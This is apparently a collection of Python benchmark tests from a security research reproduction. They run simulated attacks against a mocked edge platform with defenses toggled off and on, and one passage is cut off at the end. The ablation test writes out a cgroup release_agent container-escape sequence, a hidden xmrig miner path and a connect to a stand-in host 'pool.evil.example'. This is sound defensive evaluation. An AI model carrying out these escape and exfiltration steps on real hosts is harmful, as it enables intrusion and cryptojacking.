    ("T5", "anonymous API abuse", "M10 RBAC + authn", *_t5_anonymous()),
    ("T5", "default SDN credentials", "M10 controller hardening", *_t5_default_creds()),
    ("T6", "ONOS northbound CVE", "M12 tracking + patching", *_t6_middleware_cve()),
    ("T7", "webapp exploitation", "M13-M15 appsec gate", *_t7_app()),
    ("T8", "malicious image deploy", "M16 malware gate", *_t8_malicious_image()),
    ("T8", "container escape", "M17 LSM sandboxing", *_t8_escape()),
    ("T8", "resource monopolization", "limits + M18 detection", *_t8_resources()),
    ("T8", "upstream traffic flood", "DBA fairness + QoS policing", *_t8_traffic_flood()),
]


def test_attack_defense_matrix(benchmark, report):
    def run_matrix():
        return [(threat, name, mitigation, off().succeeded, on().succeeded)
                for threat, name, mitigation, off, on in CASES]

    outcomes = benchmark.pedantic(run_matrix, rounds=1, iterations=1)

    lines = ["E4 — attack/defense matrix (every attack, mitigations OFF vs ON)",
             "",
             f"{'threat':<7} {'attack':<26} {'mitigation':<28} "
             f"{'OFF':<10} {'ON'}"]
    for threat, name, mitigation, off_ok, on_ok in outcomes:
        lines.append(f"{threat:<7} {name:<26} {mitigation:<28} "
                     f"{'SUCCEEDS' if off_ok else 'fails':<10} "
                     f"{'SUCCEEDS' if on_ok else 'blocked'}")
    blocked = sum(1 for *_, on_ok in outcomes if not on_ok)
    lines.append("")
    lines.append(f"mitigations ON blocked {blocked}/{len(outcomes)} attacks; "
                 f"mitigations OFF allowed "
                 f"{sum(1 for *_, off_ok, _ in outcomes if off_ok)}"
                 f"/{len(outcomes)}")
    report("E4_attack_defense_matrix", "\n".join(lines))

    for threat, name, _, off_ok, on_ok in outcomes:
        assert off_ok, f"{threat} {name}: attack should succeed unmitigated"
        assert not on_ok, f"{threat} {name}: mitigation should block it"


def test_matrix_rows_via_pipeline_step_registry(benchmark, report):
    """Representative matrix rows driven by ``apply(skip=...)``.

    The hand-wired cases above construct each OFF configuration manually;
    here the SecurityPipeline's public step registry produces them — the
    OFF run skips the mitigation's step by selector (mitigation id or step
    name), the ON run applies everything — against a *full* deployment.
    """
    from repro.platform import build_genio_deployment
    from repro.security.pipeline import SecurityPipeline

    def attack_t5(posture):
        return DefaultCredentialAttack(posture.deployment.sdn).run()

    def attack_t8(posture):
        runtime = posture.deployment.worker_vms()[0].runtime
        return MaliciousImageAttack(runtime, malicious_miner_image()).run()

    def attack_t3(posture):
        host = posture.deployment.olts[0].host
        return PrivilegeEscalationAttack(host).run()

    rows = [("T3", "privilege escalation", "M1", attack_t3),
            ("T5", "default SDN credentials", "M10", attack_t5),
            ("T8", "malicious image deploy",
             "M16/M17/M18 runtime security", attack_t8)]

    def run_rows():
        outcomes = []
        for threat, name, selector, attack in rows:
            off_deployment = build_genio_deployment(n_olts=1, onus_per_olt=2)
            off_posture = SecurityPipeline(off_deployment).apply(
                skip=[selector])
            on_deployment = build_genio_deployment(n_olts=1, onus_per_olt=2)
            on_posture = SecurityPipeline(on_deployment).apply()
            outcomes.append((threat, name, selector,
                             attack(off_posture).succeeded,
                             attack(on_posture).succeeded))
        return outcomes

    outcomes = benchmark.pedantic(run_rows, rounds=1, iterations=1)

    lines = ["E4b — matrix rows via the pipeline step registry "
             "(skip= selector builds the OFF column)",
             "",
             f"{'threat':<7} {'attack':<26} {'skip selector':<30} "
             f"{'OFF':<10} {'ON'}"]
    for threat, name, selector, off_ok, on_ok in outcomes:
        lines.append(f"{threat:<7} {name:<26} {selector:<30} "
                     f"{'SUCCEEDS' if off_ok else 'fails':<10} "
                     f"{'SUCCEEDS' if on_ok else 'blocked'}")
    lines.append("")
    lines.append("reading: ablating one registered step re-opens exactly "
                 "that threat while the fully-applied pipeline blocks it — "
                 "the matrix's OFF column is now reproducible from the "
                 "public API instead of hand-wired setups.")
    report("E4b_matrix_via_step_registry", "\n".join(lines))

    for threat, name, selector, off_ok, on_ok in outcomes:
        assert off_ok, f"{threat} {name}: skipping {selector} should re-open it"
        assert not on_ok, f"{threat} {name}: full pipeline should block it"

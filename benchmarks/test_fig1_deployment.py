"""E1 — Figure 1: the GENIO deployment across cloud, edge and far-edge.

Regenerates the three-layer inventory with per-layer latency profiles and
benchmarks full-platform assembly time.
"""

from repro.platform import build_genio_deployment


def test_fig1_deployment_inventory(benchmark, report):
    deployment = benchmark(build_genio_deployment, 2, 4, 2)
    inventory = deployment.deployment_inventory()

    lines = ["Figure 1 — GENIO deployment across cloud, edge and far-edge",
             "",
             f"{'layer':<10} {'devices':>8} {'latency':>9}  device type / role"]
    for layer in ("far-edge", "edge", "cloud"):
        info = inventory[layer]
        lines.append(
            f"{layer:<10} {len(info['devices']):>8} "
            f"{info['latency_ms']:>7.1f}ms  {info['device_type']} @ "
            f"{info['location']}")
        lines.append(f"{'':<10} {'':>8} {'':>9}  suited for: "
                     f"{info['suited_for']}")
    lines.append("")
    lines.append("far-edge ONUs: " + ", ".join(inventory["far-edge"]["devices"]))
    report("E1_fig1_deployment", "\n".join(lines))

    # The shape the paper's Figure 1 asserts:
    assert len(inventory["far-edge"]["devices"]) > \
        len(inventory["edge"]["devices"]) >= len(inventory["cloud"]["devices"])
    latencies = [inventory[l]["latency_ms"] for l in ("far-edge", "edge", "cloud")]
    assert latencies == sorted(latencies)
    assert all(onu.activated for onu in deployment.onus.values())

"""E13 — PEACH isolation scoring of GENIO's tenancy designs (M17).

Regenerates the isolation-review table comparing hard isolation
(dedicated VMs), hardened soft isolation (containers with the full M16-M18
stack) and stock soft isolation, across the five PEACH dimensions.
"""

from repro.security.sandbox import peach_score
from repro.security.sandbox.peach import (
    TenancyConfig, genio_hard_isolation, genio_soft_isolation,
)

DIMENSIONS = ("privilege", "encryption", "authentication", "connectivity",
              "hygiene")


def test_peach_isolation(benchmark, report):
    configs = [genio_hard_isolation(),
               genio_soft_isolation(hardened=True),
               genio_soft_isolation(hardened=False)]

    def score_all():
        return [peach_score(config) for config in configs]

    assessments = benchmark(score_all)

    lines = ["E13 — PEACH isolation review of GENIO tenancy designs",
             "",
             f"{'dimension':<16}" + "".join(f"{a.config:>34}"
                                            for a in assessments)]
    for dimension in DIMENSIONS:
        row = f"{dimension:<16}"
        for assessment in assessments:
            row += f"{assessment.dimension_scores[dimension]:>34.2f}"
        lines.append(row)
    lines.append(f"{'interface risk':<16}"
                 + "".join(f"{a.interface_risk:>34.2f}" for a in assessments))
    lines.append(f"{'OVERALL':<16}"
                 + "".join(f"{a.overall:>34.2f}" for a in assessments))
    lines.append(f"{'verdict':<16}"
                 + "".join(f"{a.verdict:>34}" for a in assessments))
    lines.append("")
    lines.append("stock soft-isolation findings:")
    for finding in assessments[2].findings:
        lines.append(f"  - {finding}")
    report("E13_peach_isolation", "\n".join(lines))

    hard, soft_hardened, soft_stock = assessments
    assert hard.overall > soft_hardened.overall > soft_stock.overall
    assert hard.verdict == "adequate isolation"
    assert soft_stock.verdict == "insufficient isolation for multi-tenancy"
    # Hardened soft isolation must be materially better than stock:
    assert soft_hardened.overall - soft_stock.overall > 0.2

"""Shared infrastructure for the experiment benchmarks.

Every experiment regenerates its paper artifact (figure or lesson
quantification) as a text table. The ``report`` fixture prints it and
persists it under ``benchmarks/results/`` so EXPERIMENTS.md can cite the
exact output of the last run.

The ``bench_record`` fixture is the machine-readable counterpart: perf
benchmarks merge their headline numbers into ``BENCH_<EXP>.json`` at the
repo root (metric name, value, units, seed, git rev) so future PRs can
diff performance against this one.
"""

import json
import pathlib
import subprocess

import pytest

RESULTS_DIR = pathlib.Path(__file__).parent / "results"
REPO_ROOT = pathlib.Path(__file__).parent.parent


@pytest.fixture
def report():
    """Callable: report(experiment_id, text) -> writes + prints the table."""
    RESULTS_DIR.mkdir(exist_ok=True)

    def _report(experiment_id: str, text: str) -> None:
        path = RESULTS_DIR / f"{experiment_id}.txt"
        path.write_text(text + "\n")
        print(f"\n{'=' * 72}\n{experiment_id}\n{'=' * 72}\n{text}")

    return _report


def _git_rev() -> str:
    try:
        result = subprocess.run(["git", "rev-parse", "--short", "HEAD"],
                                cwd=REPO_ROOT, capture_output=True,
                                text=True, timeout=10)
        return result.stdout.strip() or "unknown"
    except (OSError, subprocess.SubprocessError):
        return "unknown"


@pytest.fixture
def bench_record():
    """Callable: bench_record(exp, metric, value, units, seed=None).

    Merges one metric into ``BENCH_<exp>.json`` at the repo root. Metrics
    accumulate across tests within a run (the file is read-modify-write),
    and the git rev is restamped on every write.
    """
    def _record(experiment_id: str, metric: str, value, units: str,
                seed=None) -> None:
        path = REPO_ROOT / f"BENCH_{experiment_id}.json"
        try:
            data = json.loads(path.read_text())
        except (OSError, ValueError):
            data = {}
        data["experiment"] = experiment_id
        data["git_rev"] = _git_rev()
        entry = {"value": value, "units": units}
        if seed is not None:
            entry["seed"] = seed
        data.setdefault("metrics", {})[metric] = entry
        path.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")

    return _record

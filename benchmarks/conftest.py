"""Shared infrastructure for the experiment benchmarks.

Every experiment regenerates its paper artifact (figure or lesson
quantification) as a text table. The ``report`` fixture prints it and
persists it under ``benchmarks/results/`` so EXPERIMENTS.md can cite the
exact output of the last run.
"""

import pathlib

import pytest

RESULTS_DIR = pathlib.Path(__file__).parent / "results"


@pytest.fixture
def report():
    """Callable: report(experiment_id, text) -> writes + prints the table."""
    RESULTS_DIR.mkdir(exist_ok=True)

    def _report(experiment_id: str, text: str) -> None:
        path = RESULTS_DIR / f"{experiment_id}.txt"
        path.write_text(text + "\n")
        print(f"\n{'=' * 72}\n{experiment_id}\n{'=' * 72}\n{text}")

    return _report

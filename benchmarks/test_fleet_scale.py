"""E19 — fleet scale-out under one discrete-event scheduler.

Two scale claims from the sim-core refactor, measured:

* **fleet concurrency** — N OLT shards (each with its own tenants, DBA
  and QoS) run concurrently in simulated time under a single
  :class:`~repro.common.sim.Scheduler`; the fleet report aggregates
  throughput, Jain fairness *across OLTs* and abuse-alert latency, and
  two same-seed runs must render byte-identically (the determinism the
  single-clock design exists to guarantee);
* **DBA grant cost** — the batched fair-policy grant path against the
  reference progressive filler at 1k T-CONTs, grant() time only. The
  batched path caches the flat weight/priority structure at registration
  and allocates per cycle from immutable snapshots; the target is >= 2x,
  the in-test floor 1.5x so CI jitter cannot flake the suite.
"""

import time

import pytest

from repro.common import telemetry
from repro.traffic.dba import DbaScheduler
from repro.traffic.fleet import run_fleet_experiment
from repro.traffic.profiles import Request

N_OLTS = 4
N_TENANTS = 32       # fleet-wide, split across the OLT shards
SECONDS = 2.0
SEED = 7
HOSTILE = "olt1-tenant-hostile"

N_TCONTS = 1000      # microbench scale: the 1k-tenant DBA cycle
N_CYCLES = 200
CAPACITY = 3_110_000  # one 125us GPON cycle's worth at 2.5G, scaled up


@pytest.fixture(autouse=True)
def _fresh_registry():
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)
    yield
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)


def test_fleet_scale_concurrent_olts(benchmark, report, bench_record):
    def run_fleet():
        start = time.perf_counter()
        fleet = run_fleet_experiment(n_olts=N_OLTS, n_tenants=N_TENANTS,
                                     seconds=SECONDS, seed=SEED)
        elapsed = time.perf_counter() - start
        rerun = run_fleet_experiment(n_olts=N_OLTS, n_tenants=N_TENANTS,
                                     seconds=SECONDS, seed=SEED)
        return fleet, rerun, elapsed

    fleet, rerun, elapsed = benchmark.pedantic(run_fleet, rounds=1,
                                               iterations=1)
    bench_record("E19", "fleet_run_wall_clock", round(elapsed, 3), "s",
                 seed=SEED)

    latency = fleet.alert_latency_s(HOSTILE)
    lines = [
        f"E19 — fleet scale-out: {N_OLTS} OLTs x {N_TENANTS} tenants, "
        f"{SECONDS:g}s simulated, seed {SEED}",
        "",
        fleet.render(),
        "",
        f"determinism: same-seed rerun renders "
        f"{'IDENTICAL' if rerun.render() == fleet.render() else 'DIFFERENT'}",
        f"scheduler events: {fleet.scheduler_events} under one clock "
        f"({fleet.monitor_passes} fleet monitor passes)",
        "",
        "reading: the shards share one scheduler, so per-OLT DBA cycles "
        "interleave deterministically instead of running back-to-back; "
        "fleet-normalized share gauges let the abuse detector flag the "
        f"one flooder in {latency:g}s with zero false positives across "
        f"{N_TENANTS - 1} benign tenants.",
    ]
    report("E19_fleet_scale", "\n".join(lines))

    assert rerun.render() == fleet.render()
    assert len(fleet.olts) == N_OLTS
    assert sum(len(r.tenants) for r in fleet.olts.values()) == N_TENANTS
    assert fleet.fleet_throughput_bps > 0
    assert fleet.jain_across_olts() >= 0.9
    assert fleet.hostile_tenants == [HOSTILE]
    assert latency is not None and latency <= 0.5
    benign = {t for r in fleet.olts.values() for t in r.tenants} - {HOSTILE}
    assert not benign & set(fleet.alert_first_at)


def _dba_at_scale(batched: bool) -> DbaScheduler:
    dba = DbaScheduler(batched=batched)
    for i in range(N_TCONTS):
        tcont = dba.register_tcont(f"S{i:04d}", f"t-{i:04d}",
                                   priority=i % 4,
                                   weight=1.0 + (i % 5) * 0.5)
        tcont.offer(Request(tenant=f"t-{i:04d}",
                            size_bytes=500 + (i * 37) % 9000,
                            issued_at=0.0))
    return dba


def _time_grants(dba: DbaScheduler) -> float:
    start = time.perf_counter()
    for _ in range(N_CYCLES):
        dba.grant(CAPACITY)
    return time.perf_counter() - start


def test_dba_grant_batching_speedup(benchmark, report, bench_record):
    def run_both():
        reference = _dba_at_scale(batched=False)
        batched = _dba_at_scale(batched=True)
        # Identical backlog => identical grants, or the speedup is moot.
        assert batched.grant(CAPACITY) == reference.grant(CAPACITY)
        return _time_grants(reference), _time_grants(batched)

    reference_s, batched_s = benchmark.pedantic(run_both, rounds=1,
                                                iterations=1)
    speedup = reference_s / batched_s if batched_s else float("inf")
    bench_record("E19", "dba_batching_speedup", round(speedup, 3), "x")

    per_cycle_ref = reference_s / N_CYCLES * 1e3
    per_cycle_batched = batched_s / N_CYCLES * 1e3
    lines = [
        f"E19 — DBA grant batching at {N_TCONTS} T-CONTs "
        f"({N_CYCLES} cycles, {CAPACITY} B capacity)",
        "",
        f"{'path':<22} {'total':>10} {'per cycle':>12}",
        f"{'reference _fill':<22} {reference_s:>9.3f}s "
        f"{per_cycle_ref:>10.3f}ms",
        f"{'batched (cached)':<22} {batched_s:>9.3f}s "
        f"{per_cycle_batched:>10.3f}ms",
        "",
        f"speedup: {speedup:.2f}x (target 2x, CI floor 1.5x); grants "
        "byte-identical by construction (asserted per run and "
        "property-tested in tests/test_properties.py).",
    ]
    report("E19_dba_batching", "\n".join(lines))

    assert speedup >= 1.5

"""E16 (ablation) — runtime-monitoring overhead, measured A/B.

Lesson 8: "maintaining performance overheads within acceptable bounds is
a key consideration." This bench runs the *same* syscall burst twice —
once on a bare runtime, once with the Falco-like engine attached — so the
pytest-benchmark table shows the relative cost directly, and the report
file records the computed factor.
"""

import random
import time

from repro.platform.workloads import ml_inference_image
from repro.security.monitor import FalcoEngine
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime

_OPS = [("read", {"path": "/data/input"}),
        ("write", {"path": "/data/output"}),
        ("connect", {"dst": "10.0.3.7"}),
        ("execve", {"path": "/app/main"}),
        ("open", {"path": "/etc/hosts", "mode": "r"})]
_BURST = 200


def _make_runtime(monitored: bool):
    runtime = ContainerRuntime("bench-node")
    engine = None
    if monitored:
        engine = FalcoEngine()
        engine.attach(runtime.bus)
    container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                          tenant="tenant-a"))
    return runtime, container, engine


def _burst(runtime, container, rng):
    for _ in range(_BURST):
        syscall, args = rng.choice(_OPS)
        runtime.syscall(container.id, syscall, **args)


def test_syscall_burst_unmonitored(benchmark):
    runtime, container, _ = _make_runtime(monitored=False)
    rng = random.Random(3)
    benchmark(_burst, runtime, container, rng)


def test_syscall_burst_monitored(benchmark, report):
    runtime, container, engine = _make_runtime(monitored=True)
    rng = random.Random(3)
    benchmark(_burst, runtime, container, rng)

    # Independent wall-clock A/B for the report file (benchmark fixtures
    # cannot compare across tests). Min-of-repeats suppresses scheduler
    # noise, which single-shot timing is hopelessly exposed to.
    def timed(monitored, repeats=5):
        best = float("inf")
        for _ in range(repeats):
            rt, ctr, _ = _make_runtime(monitored)
            local_rng = random.Random(3)
            start = time.perf_counter()
            for _ in range(10):
                _burst(rt, ctr, local_rng)
            best = min(best, time.perf_counter() - start)
        return best

    bare = timed(False)
    watched = timed(True)
    factor = watched / bare if bare else float("inf")
    lines = ["E16 (ablation) — monitoring overhead on the syscall hot path",
             "",
             f"burst: {_BURST * 10} mediated syscalls",
             f"bare runtime:      {bare * 1000:8.2f} ms",
             f"with Falco engine: {watched * 1000:8.2f} ms",
             f"overhead factor:   {factor:8.2f}x",
             "",
             f"engine work during benchmarked burst: "
             f"{engine.events_processed} events, "
             f"{engine.rule_evaluations} rule evaluations",
             "",
             "reading: observe-without-block costs a bounded constant per "
             "event — the Lesson 8 'acceptable bounds' criterion is about "
             "keeping this factor flat as rules are added."]
    report("E16_monitor_overhead", "\n".join(lines))

    assert factor > 1.0          # monitoring is never free...
    assert factor < 25.0         # ...but stays within bounded overhead
    assert engine.events_processed >= _BURST

"""E3 — Figure 3: OSS security solutions and standards in GENIO.

Regenerates the threat x mitigation x tool matrix from the threat-model
catalog and benchmarks matrix derivation.
"""

from repro.security.threatmodel import (
    GENIO_MITIGATIONS, GENIO_THREATS, build_genio_threat_model,
    coverage_matrix, render_matrix,
)
from repro.security.threatmodel.matrix import tools_per_layer, uncovered_threats


def test_fig3_matrix(benchmark, report):
    rows = benchmark(coverage_matrix)

    lines = [render_matrix(), "", "Per-layer OSS tool inventory:"]
    for layer, tools in tools_per_layer().items():
        lines.append(f"  {layer}: {', '.join(tools)}")
    model = build_genio_threat_model()
    lines.append("")
    lines.append("Risk ranking (likelihood x impact):")
    for threat in model.ranked_by_risk():
        lines.append(f"  {threat.threat_id:<4} {threat.name:<42} "
                     f"score={threat.risk_score:<3} {threat.risk_level.name}")
    report("E3_fig3_matrix", "\n".join(lines))

    # The matrix's structural claims:
    assert len(GENIO_THREATS) == 8 and len(GENIO_MITIGATIONS) == 18
    assert uncovered_threats() == []                  # every threat mitigated
    assert len(rows) == sum(len(t.mitigation_ids) for t in GENIO_THREATS)
    assert len({r.mitigation_id for r in rows}) == 18  # every mitigation used

"""E14 (ablation) — defense-in-depth layers against the T8 kill chain.

DESIGN.md calls for ablation benches on the design choices: here each
runtime-defense layer (M16 admission gate, container spec hygiene, seccomp,
M17 LSM policy, M18+response) is toggled independently against the full
malicious-tenant kill chain (deploy -> escape -> mine -> exfiltrate),
showing what each layer uniquely contributes — the argument for deploying
all of them that Section VI makes implicitly.
"""

from dataclasses import dataclass
from typing import List, Optional

from repro.platform.workloads import malicious_miner_image
from repro.security.malware import make_admission_hook
from repro.security.monitor import FalcoEngine
from repro.security.monitor.response import IncidentResponder
from repro.security.sandbox import default_tenant_policy, install_policy
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime


@dataclass
class KillChainOutcome:
    configuration: str
    deployed: bool
    escape_steps_allowed: int      # of 3
    mined: bool
    exfiltrated: bool
    detected: bool
    contained: bool                # container not running at the end

    @property
    def chain_completed(self) -> bool:
        return (self.deployed and self.escape_steps_allowed == 3
                and self.mined and self.exfiltrated and not self.contained)


_ESCAPE_CHAIN = [("mount", {"path": "/sys/fs/cgroup", "mode": "rw"}),
                 ("openat", {"path": "/sys/fs/cgroup/release_agent",
                             "mode": "w"}),
                 ("execve", {"path": "/bin/sh"})]


def run_kill_chain(name: str, *, gate: bool, hygiene: bool, seccomp: bool,
                   lsm: bool, monitor_respond: bool) -> KillChainOutcome:
    runtime = ContainerRuntime("node", cpu_capacity=8.0)
    if gate:
        runtime.add_admission_hook(make_admission_hook())
    if lsm:
        install_policy(runtime, default_tenant_policy("tenant-*"))
    engine: Optional[FalcoEngine] = None
    responder: Optional[IncidentResponder] = None
    if monitor_respond:
        engine = FalcoEngine()
        engine.attach(runtime.bus)
        responder = IncidentResponder(runtime, engine)

    spec = ContainerSpec(
        image=malicious_miner_image(), tenant="tenant-mallory",
        privileged=not hygiene,
        seccomp_profile="default" if (seccomp and hygiene) else "unconfined",
        no_new_privileges=hygiene)
    try:
        container = runtime.run(spec)
    except Exception:
        return KillChainOutcome(name, False, 0, False, False,
                                detected=True, contained=True)

    allowed = 0
    for syscall, args in _ESCAPE_CHAIN:
        if not container.running:
            break
        if runtime.syscall(container.id, syscall, **args).allowed:
            allowed += 1
        if responder is not None:
            responder.process_new_alerts()

    mined = exfiltrated = False
    if container.running:
        mined = runtime.syscall(container.id, "execve",
                                path="/opt/.hidden/xmrig").allowed
        if responder is not None:
            responder.process_new_alerts()
    if container.running:
        exfiltrated = runtime.syscall(container.id, "connect",
                                      dst="pool.evil.example:3333").allowed
        if responder is not None:
            responder.process_new_alerts()

    detected = bool(engine and engine.alerts)
    return KillChainOutcome(name, True, allowed, mined, exfiltrated,
                            detected=detected,
                            contained=not container.running)


CONFIGS = [
    ("no defenses", dict(gate=False, hygiene=False, seccomp=False,
                         lsm=False, monitor_respond=False)),
    ("spec hygiene only", dict(gate=False, hygiene=True, seccomp=False,
                               lsm=False, monitor_respond=False)),
    ("seccomp only", dict(gate=False, hygiene=True, seccomp=True,
                          lsm=False, monitor_respond=False)),
    ("LSM only (M17)", dict(gate=False, hygiene=False, seccomp=False,
                            lsm=True, monitor_respond=False)),
    ("monitor+response only (M18)", dict(gate=False, hygiene=False,
                                         seccomp=False, lsm=False,
                                         monitor_respond=True)),
    ("gate only (M16)", dict(gate=True, hygiene=False, seccomp=False,
                             lsm=False, monitor_respond=False)),
    ("full stack (M16+M17+M18)", dict(gate=True, hygiene=True, seccomp=True,
                                      lsm=True, monitor_respond=True)),
]


def test_ablation_defense_depth(benchmark, report):
    def run_all() -> List[KillChainOutcome]:
        return [run_kill_chain(name, **flags) for name, flags in CONFIGS]

    outcomes = benchmark(run_all)

    lines = ["E14 (ablation) — runtime defense layers vs the T8 kill chain",
             "",
             f"{'configuration':<30} {'deploys':>7} {'escape':>7} "
             f"{'mines':>6} {'exfil':>6} {'detect':>7} {'contained':>9} "
             f"{'chain?':>7}"]
    for outcome in outcomes:
        lines.append(
            f"{outcome.configuration:<30} "
            f"{'yes' if outcome.deployed else 'no':>7} "
            f"{outcome.escape_steps_allowed}/3{'':>3} "
            f"{'yes' if outcome.mined else 'no':>6} "
            f"{'yes' if outcome.exfiltrated else 'no':>6} "
            f"{'yes' if outcome.detected else 'no':>7} "
            f"{'yes' if outcome.contained else 'no':>9} "
            f"{'DONE' if outcome.chain_completed else 'broken':>7}")
    lines.append("")
    lines.append("reading: every single layer breaks the chain somewhere "
                 "different (admission, syscalls, detection+eviction); only "
                 "'no defenses' lets it complete — the case for depth.")
    report("E14_ablation_defense_depth", "\n".join(lines))

    by_name = {o.configuration: o for o in outcomes}
    assert by_name["no defenses"].chain_completed
    for name, _ in CONFIGS[1:]:
        assert not by_name[name].chain_completed, name
    assert not by_name["gate only (M16)"].deployed
    assert by_name["monitor+response only (M18)"].detected
    assert by_name["monitor+response only (M18)"].contained
    full = by_name["full stack (M16+M17+M18)"]
    assert not full.deployed

"""E14 (ablation) — defense-in-depth layers against the T8 kill chain.

DESIGN.md calls for ablation benches on the design choices: here each
runtime-defense layer (M16 admission gate, container spec hygiene, seccomp,
M17 LSM policy, M18+response) is toggled independently against the full
malicious-tenant kill chain (deploy -> escape -> mine -> exfiltrate),
showing what each layer uniquely contributes — the argument for deploying
all of them that Section VI makes implicitly.
"""

from dataclasses import dataclass
from typing import List, Optional

from repro.platform.workloads import malicious_miner_image
from repro.security.malware import make_admission_hook
from repro.security.monitor import FalcoEngine
from repro.security.monitor.response import IncidentResponder
from repro.security.sandbox import default_tenant_policy, install_policy
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime


@dataclass
class KillChainOutcome:
    configuration: str
    deployed: bool
    escape_steps_allowed: int      # of 3
    mined: bool
    exfiltrated: bool
    detected: bool
    contained: bool                # container not running at the end

    @property
    def chain_completed(self) -> bool:
        return (self.deployed and self.escape_steps_allowed == 3
                and self.mined and self.exfiltrated and not self.contained)


_ESCAPE_CHAIN = [("mount", {"path": "/sys/fs/cgroup", "mode": "rw"}),
                 ("openat", {"path": "/sys/fs/cgroup/release_agent",
                             "mode": "w"}),
                 ("execve", {"path": "/bin/sh"})]


def run_kill_chain(name: str, *, gate: bool, hygiene: bool, seccomp: bool,
                   lsm: bool, monitor_respond: bool) -> KillChainOutcome:
    runtime = ContainerRuntime("node", cpu_capacity=8.0)
    if gate:
        runtime.add_admission_hook(make_admission_hook())
    if lsm:
        install_policy(runtime, default_tenant_policy("tenant-*"))
    engine: Optional[FalcoEngine] = None
    responder: Optional[IncidentResponder] = None
    if monitor_respond:
        engine = FalcoEngine()
        engine.attach(runtime.bus)
        responder = IncidentResponder(runtime, engine)

    spec = ContainerSpec(
        image=malicious_miner_image(), tenant="tenant-mallory",
        privileged=not hygiene,
        seccomp_profile="default" if (seccomp and hygiene) else "unconfined",
        no_new_privileges=hygiene)
    try:
        container = runtime.run(spec)
    except Exception:
        return KillChainOutcome(name, False, 0, False, False,
                                detected=True, contained=True)

    allowed = 0
    for syscall, args in _ESCAPE_CHAIN:
        if not container.running:
            break
        if runtime.syscall(container.id, syscall, **args).allowed:
            allowed += 1
        if responder is not None:
            responder.process_new_alerts()

    mined = exfiltrated = False
    if container.running:
        mined = runtime.syscall(container.id, "execve",
                                path="/opt/.hidden/xmrig").allowed
        if responder is not None:
            responder.process_new_alerts()
    if container.running:
        exfiltrated = runtime.syscall(container.id, "connect",
                                      dst="pool.evil.example:3333").allowed
        if responder is not None:
            responder.process_new_alerts()

    detected = bool(engine and engine.alerts)
    return KillChainOutcome(name, True, allowed, mined, exfiltrated,
                            detected=detected,
                            contained=not container.running)


CONFIGS = [
    ("no defenses", dict(gate=False, hygiene=False, seccomp=False,
                         lsm=False, monitor_respond=False)),
    ("spec hygiene only", dict(gate=False, hygiene=True, seccomp=False,
                               lsm=False, monitor_respond=False)),
    ("seccomp only", dict(gate=False, hygiene=True, seccomp=True,
                          lsm=False, monitor_respond=False)),
    ("LSM only (M17)", dict(gate=False, hygiene=False, seccomp=False,
                            lsm=True, monitor_respond=False)),
    ("monitor+response only (M18)", dict(gate=False, hygiene=False,
                                         seccomp=False, lsm=False,
                                         monitor_respond=True)),
    ("gate only (M16)", dict(gate=True, hygiene=False, seccomp=False,
                             lsm=False, monitor_respond=False)),
    ("full stack (M16+M17+M18)", dict(gate=True, hygiene=True, seccomp=True,
                                      lsm=True, monitor_respond=True)),
]


def test_ablation_defense_depth(benchmark, report):
    def run_all() -> List[KillChainOutcome]:
        return [run_kill_chain(name, **flags) for name, flags in CONFIGS]

    outcomes = benchmark(run_all)

    lines = ["E14 (ablation) — runtime defense layers vs the T8 kill chain",
             "",
             f"{'configuration':<30} {'deploys':>7} {'escape':>7} "
             f"{'mines':>6} {'exfil':>6} {'detect':>7} {'contained':>9} "
             f"{'chain?':>7}"]
    for outcome in outcomes:
        lines.append(
            f"{outcome.configuration:<30} "
            f"{'yes' if outcome.deployed else 'no':>7} "
            f"{outcome.escape_steps_allowed}/3{'':>3} "
            f"{'yes' if outcome.mined else 'no':>6} "
            f"{'yes' if outcome.exfiltrated else 'no':>6} "
            f"{'yes' if outcome.detected else 'no':>7} "
            f"{'yes' if outcome.contained else 'no':>9} "
            f"{'DONE' if outcome.chain_completed else 'broken':>7}")
    lines.append("")
    lines.append("reading: every single layer breaks the chain somewhere "
                 "different (admission, syscalls, detection+eviction); only "
                 "'no defenses' lets it complete — the case for depth.")
    report("E14_ablation_defense_depth", "\n".join(lines))

    by_name = {o.configuration: o for o in outcomes}
    assert by_name["no defenses"].chain_completed
    for name, _ in CONFIGS[1:]:
        assert not by_name[name].chain_completed, name
    assert not by_name["gate only (M16)"].deployed
    assert by_name["monitor+response only (M18)"].detected
    assert by_name["monitor+response only (M18)"].contained
    full = by_name["full stack (M16+M17+M18)"]
    assert not full.deployed


# The same ablation idea one level up: instead of hand-wiring each layer,
# drive it through the SecurityPipeline's public step registry and observe
# which posture artifacts each skipped step takes with it.

_STEP_ARTIFACTS = {
    "M1/M2 hardening": lambda p: bool(p.hardening),
    "M3/M4 communication security": lambda p: p.channels is not None,
    "M5/M6/M7 integrity": lambda p: p.boot is not None and bool(p.fim),
    "M8/M9/M12 vulnerability management": lambda p: p.host_scanner is not None,
    "M10/M11 access control & compliance": lambda p: p.compliance is not None,
    "M13/M14/M15 application security": lambda p: p.sast is not None,
    "M16/M17/M18 runtime security": lambda p: p.falco is not None,
}


def test_pipeline_step_ablation(benchmark, report):
    """Skip each registered step in turn via ``apply(skip=...)``."""
    from repro.platform import build_genio_deployment
    from repro.security.pipeline import SecurityPipeline

    def sweep():
        rows = []
        step_names = SecurityPipeline(
            build_genio_deployment(n_olts=1, onus_per_olt=2)).step_names()
        for skipped in step_names:
            deployment = build_genio_deployment(n_olts=1, onus_per_olt=2)
            posture = SecurityPipeline(deployment).apply(skip=[skipped])
            rows.append((skipped, posture))
        return rows

    rows = benchmark.pedantic(sweep, rounds=1, iterations=1)

    lines = ["E14b (ablation) — pipeline-level step ablation via the public "
             "step registry",
             "",
             f"{'step skipped':<38} {'artifact gone':>13} {'others intact':>14}"]
    for skipped, posture in rows:
        gone = not _STEP_ARTIFACTS[skipped](posture)
        others = all(check(posture) for name, check in _STEP_ARTIFACTS.items()
                     if name != skipped)
        lines.append(f"{skipped:<38} {'yes' if gone else 'NO':>13} "
                     f"{'yes' if others else 'NO':>14}")
        assert gone, f"skipping {skipped} left its artifact behind"
        assert others, f"skipping {skipped} broke an unrelated step"
        assert posture.steps_skipped == [skipped]
    lines.append("")
    lines.append("reading: apply(skip=...) removes exactly the skipped "
